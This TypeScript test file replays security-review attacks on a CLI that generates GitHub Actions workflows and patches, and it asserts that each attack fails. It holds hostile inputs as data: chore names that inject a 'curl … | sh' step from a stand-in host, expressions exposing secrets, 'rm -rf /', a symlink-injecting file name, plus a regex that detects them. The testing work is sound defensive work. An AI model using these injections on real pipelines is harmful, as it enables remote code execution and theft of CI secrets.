/**
 * The attacks of security review 2026-12b on the CI side, replayed: a chore name that injects
 * workflow steps or expressions (finding 1), `--patch-out` through a symbolic link the repository
 * ships (finding 7), and a file name that writes its own patch header lines (finding 15).
 */
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parse as parseYaml } from 'yaml';
import { INSTALL_CLI_SCRIPT } from '../../../src/cli/cliArtifact';
import { handOverScript } from '../../../src/cli/sealedSecrets';
import { githubWorkflow } from '../../../src/cli/githubWorkflow';
import { gitQuotedPath, unifiedDiff } from '../../../src/cli/patch';
import { safeText } from '../../../src/cli/workflowText';
import type { ChoreDefinition } from '../../../src/core/chores/types';
import { startModelServer } from '../../fixtures/modelServer';
import type { ModelServer } from '../../fixtures/modelServer';
import { actionlintLines } from '../../support/actionlint';
import { cronChore, githubChore } from '../../support/ciChores';
import { choresYaml, cli, makeRepo, TEST_CLI } from '../../support/ciRepo';
import type { Workflow } from '../../support/workflowRunner';
import { attack } from '../security/attackTally';

const generate = (chores: ChoreDefinition[]) => githubWorkflow(chores, { hashOf: () => 'cd'.repeat(32), cli: TEST_CLI });

/** The names of finding 1: line separators that end a YAML scalar, and a filter bypass. */
const STEP_INJECTION = (separator: string) =>
  ['Tidy', '      - if: always()', '        run: curl -sL x.example/a|sh', '      - run: |', '          #'].join(separator);
const ATTACK_NAMES = [
  STEP_INJECTION('\u2028'),
  STEP_INJECTION('\u2029'),
  STEP_INJECTION('\u0085'),
  STEP_INJECTION('\n'),
  STEP_INJECTION('\r'),
  'Tidy docs $${{{{ github.token }${{}',
  'Tidy docs ${{ toJSON(secrets) }}',
  "x ${{ secrets.ANTHROPIC_API_KEY }} '; rm -rf / #",
];

describe('cli: attacks on the generated workflow and the patch', function () {
  this.timeout(60_000);

  it('finding 1: a chore name never reaches the workflow, which parses to exactly the same jobs and steps', async () => {
    const benign = generate([cronChore('tidy'), githubChore('triage', { event: 'issues' }, { comment: { max: 1 } })]);
    for (const name of ATTACK_NAMES) {
      await attack('workflow injection by a chore name', () => {
        const text = generate([
          { ...cronChore('tidy'), name },
          { ...githubChore('triage', { event: 'issues' }, { comment: { max: 1 } }), name },
        ]);
        assert.equal(text, benign, JSON.stringify(name));
        // The CLI's own install step fetches with curl; nothing else may.
        assert.doesNotMatch(
          text.split(INSTALL_CLI_SCRIPT.replace(/^/gm, ' '.repeat(10))).join(''),
          /\$\{\{ github\.token \}\}"|curl|toJSON|rm -rf (?!"\$dir"|"\$RUNNER_TEMP\/tasklane-keys")/,
        );
      });
    }
    const workflow = parseYaml(benign) as Workflow;
    assert.deepEqual(Object.keys(workflow.jobs), ['chore-tidy', 'apply-tidy', 'chore-triage', 'status-triage', 'apply-triage']);
    assert.deepEqual(
      workflow.jobs['chore-tidy']?.steps.map((s) => s.run ?? s.uses?.replace(/@.*/, '')),
      [
        'actions/checkout',
        'actions/setup-node',
        `${INSTALL_CLI_SCRIPT}\n`,
        // A cron chore's paused run is continued by Run workflow (ciResume.ts `continueGesture`).
        'run="$(tasklane chores paused --workspace repo --chore tidy)"\necho "run=$run" >> "$GITHUB_OUTPUT"\n',
        'actions/download-artifact',
        `${handOverScript(['ANTHROPIC_API_KEY', 'OPENAI_API_KEY', 'TASKLANE_GATE_TOKEN'])}\n`,
        `tasklane chores run tidy --workspace repo --expect-hash ${'cd'.repeat(32)} --out tasklane-out --secrets-dir "$RUNNER_TEMP/tasklane-keys" \${RESUME_STORE:+--resume "$RESUME_STORE"}`,
        'rm -rf "$RUNNER_TEMP/tasklane-keys"',
        'actions/upload-artifact',
      ],
    );
    assert.deepEqual(await actionlintLines(benign, 'w.yml'), []);
  });

  it('finding 1: other chores.yaml text (inputs, workflow names) stays one quoted line with no expression; a bad branch filter is refused', async () => {
    const evil = STEP_INJECTION('\u2028') + ' $${{{{ github.token }${{}';
    const chores = [
      githubChore('by-hand', {
        event: 'workflow_dispatch',
        inputs: { target: { description: evil, required: false, type: 'choice', options: ['a', evil], default: evil } },
      }),
      githubChore('fix-build', { event: 'workflow_run', workflows: [evil], branches: ['main', 'release/**'] }),
    ];
    const text = generate(chores);
    // Every line a libyaml-family parser would see is a line here: no separator is left raw.
    assert.doesNotMatch(text, /[\u2028\u2029\u0085\r]/);
    // The token appears only where the generator puts it: the env of each apply step, and the
    // read-only one of each event chore's run step (its actor gate), and, for the chore whose paused
    // runs Run workflow continues, the read-only one of its find and download steps.
    assert.equal(text.match(/\$\{\{ github\.token \}\}/g)?.length, 6);
    assert.equal(
      text.match(/\$\{\{/g)?.length,
      text.match(
        /\$\{\{ (github\.token|secrets\.\w+|steps\.upload\.outputs\.artifact-id|steps\.paused\.outputs\.run( && '[\w/-]+' \|\| '')?|needs\.chore-[\w-]+\.result|github\.event\.[\w.]+( \|\| [\w.]+)*) \}\}/g,
      )?.length,
    );
    const workflow = parseYaml(text) as Workflow & { on: { workflow_dispatch: { inputs: Record<string, { description: string; options: string[] }> } } };
    const input = workflow.on.workflow_dispatch.inputs.target;
    assert.equal(input?.description, 'Tidy       - if: always()         run: curl -sL x.example/a|sh       - run: |           # $$ {{{{ github.token }$ {{}');
    assert.equal(input?.options.length, 2);
    for (const job of Object.values(workflow.jobs)) assert.ok(job.steps.every((s) => s.run === `${INSTALL_CLI_SCRIPT}\n` || !s.run?.includes('curl')));
    assert.deepEqual(await actionlintLines(text, 'w.yml'), []);
    // A branch filter is a ref name or pattern, or the chore is refused.
    assert.throws(
      () => generate([githubChore('review', { event: 'pull_request', branches: [evil] })]),
      /chore review: the branch filter [\s\S]* is not a branch name/,
    );
  });

  it('finding 1: safeText leaves no line break and no "${" in any mix of the dangerous characters', () => {
    const alphabet = ['$', '{', '}', '$$', '{{', '\u2028', '\u2029', '\u0085', '\n', '\r', '\t', ' ', 'x', '\u0000', '\u009b'];
    let seed = 7;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    for (let i = 0; i < 3000; i++) {
      const text = Array.from({ length: 1 + Math.floor(random() * 12) }, () => alphabet[Math.floor(random() * alphabet.length)]).join('');
      const safe = safeText(text);
      // eslint-disable-next-line no-control-regex -- control characters are exactly what must be gone
      assert.doesNotMatch(safe, /\$\{|[\u0000-\u001f\u007f-\u009f\u2028\u2029]/, JSON.stringify(text));
    }
  });

  it('finding 15: a file name carrying newlines and header text stays one quoted header field that git applies as that name', () =>
    attack('patch header injection by a file name', patchHeaderAttack));

  function patchHeaderAttack(): void {
    const name = 'notes.md\nnew file mode 120000\n--- /dev/null\n+++ b/run\n@@ -0,0 +1 @@\n+/home/runner/.ssh\ndiff --git a/x b/x';
    const patch = unifiedDiff([
      { path: name, before: null, after: 'hello\n' },
      { path: 'café "quoted" \\ name.md', before: null, after: 'bonjour\n' },
    ]);
    assert.equal(patch.match(/^diff --git /gm)?.length, 2, patch);
    assert.doesNotMatch(patch, /^new file mode 120000$/m);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tasklane-patch-'));
    try {
      execFileSync('git', ['init', '-q'], { cwd: dir });
      fs.writeFileSync(path.join(dir, 'p.patch'), patch);
      execFileSync('git', ['apply', 'p.patch'], { cwd: dir });
      fs.rmSync(path.join(dir, 'p.patch'));
      // The name's slashes are folders, as for any path; nothing else was created.
      assert.deepEqual(
        fs
          .readdirSync(dir)
          .filter((f) => f !== '.git')
          .sort(),
        ['café "quoted" \\ name.md', name.split('/')[0]].sort(),
      );
      assert.equal(fs.readFileSync(path.join(dir, name), 'utf8'), 'hello\n');
      // The same quoting git itself writes.
      execFileSync('git', ['add', '-A'], { cwd: dir });
      const ours = patch.split('\n').filter((l) => l.startsWith('diff --git '));
      const gits = execFileSync('git', ['-c', 'core.quotePath=true', 'diff', '--cached'], { cwd: dir, encoding: 'utf8' })
        .split('\n')
        .filter((l) => l.startsWith('diff --git '));
      assert.deepEqual(ours.sort(), gits.sort());
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
    assert.equal(gitQuotedPath('a/src/app.ts'), 'a/src/app.ts', 'plain names stay as they are');
  }

  it('finding 8: a chore job reads only, keeps no token, installs without scripts and runs only the reviewed definition', () =>
    attack('CI job rights', () => {
      // The probe: a plain workflow (no pull request opened) gave every chore job contents: write,
      // a persisted token, `npm ci` with install scripts, and ran whatever chores.yaml said then.
      const workflow = parseYaml(generate([cronChore('tidy')])) as Workflow;
      const job = workflow.jobs['chore-tidy'];
      // checks: read is the fire ledger a cron chore's budgets across fires read (fireBudget.ts);
      // actions: read downloads a paused run's artifact on a continue (workflowContinue.ts).
      assert.deepEqual(job?.permissions, { actions: 'read', checks: 'read', contents: 'read' });
      for (const step of job?.steps ?? []) {
        if (step.uses?.startsWith('actions/checkout@')) assert.equal(step.with?.['persist-credentials'], false);
        if (step.run?.includes('npm ')) assert.match(step.run, /--ignore-scripts/);
      }
      assert.ok(job?.steps.some((s) => s.run?.includes(`--expect-hash ${'cd'.repeat(32)}`)));
    }));

  describe('finding 7: --patch-out and --out through a link the repository ships', () => {
    let server: ModelServer;
    const dirs: string[] = [];
    before(async () => {
      server = await startModelServer();
    });
    after(async () => {
      await server.close();
      for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
    });

    it('refuses to write through the link (exit 2) and the target is untouched; a plain path is written', async () => {
      const dir = makeRepo(choresYaml());
      const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'tasklane-victim-'));
      dirs.push(dir, outside);
      const victim = path.join(outside, 'authorized_keys');
      fs.writeFileSync(victim, 'ssh-ed25519 AAAA-owner owner\n');
      fs.symlinkSync(victim, path.join(dir, 'tasklane.patch'));
      fs.symlinkSync(outside, path.join(dir, 'tasklane-out'));
      const env = {
        TASKLANE_MODEL_PROVIDER: 'openai-compatible',
        TASKLANE_MODEL_BASE_URL: server.openaiBaseUrl,
        TASKLANE_MODEL_ID: 'gpt-5-mini',
        OPENAI_API_KEY: 'test-key',
      };
      const edit = {
        toolCalls: [{ name: 'replace_in_file', arguments: { path: 'src/app.ts', edits: [{ oldText: 'answer = 41', newText: 'answer = 42' }] } }],
      };
      const end = { toolCalls: [{ name: 'task_end', arguments: { status: 'completed', summary: 'done', output: {} } }] };
      for (const args of [
        ['--patch-out', 'tasklane.patch'],
        ['--out', 'tasklane-out'],
      ]) {
        server.reset();
        server.script([edit, end]);
        const result = await cli(['chores', 'run', 'fix-answer', ...args], env, dir);
        await attack('CLI output through a shipped link', () => {
          assert.equal(result.code, 2, result.err);
          assert.match(result.err, /is a symbolic link; nothing is written through it/);
          assert.equal(fs.readFileSync(victim, 'utf8'), 'ssh-ed25519 AAAA-owner owner\n');
          assert.deepEqual(fs.readdirSync(outside), ['authorized_keys']);
        });
      }
      server.reset();
      server.script([edit, end]);
      const plain = await cli(['chores', 'run', 'fix-answer', '--patch-out', 'answer.patch'], env, dir);
      assert.equal(plain.code, 0, plain.err);
      assert.match(fs.readFileSync(path.join(dir, 'answer.patch'), 'utf8'), /^\+export const answer = 42;$/m);
    });
  });
});
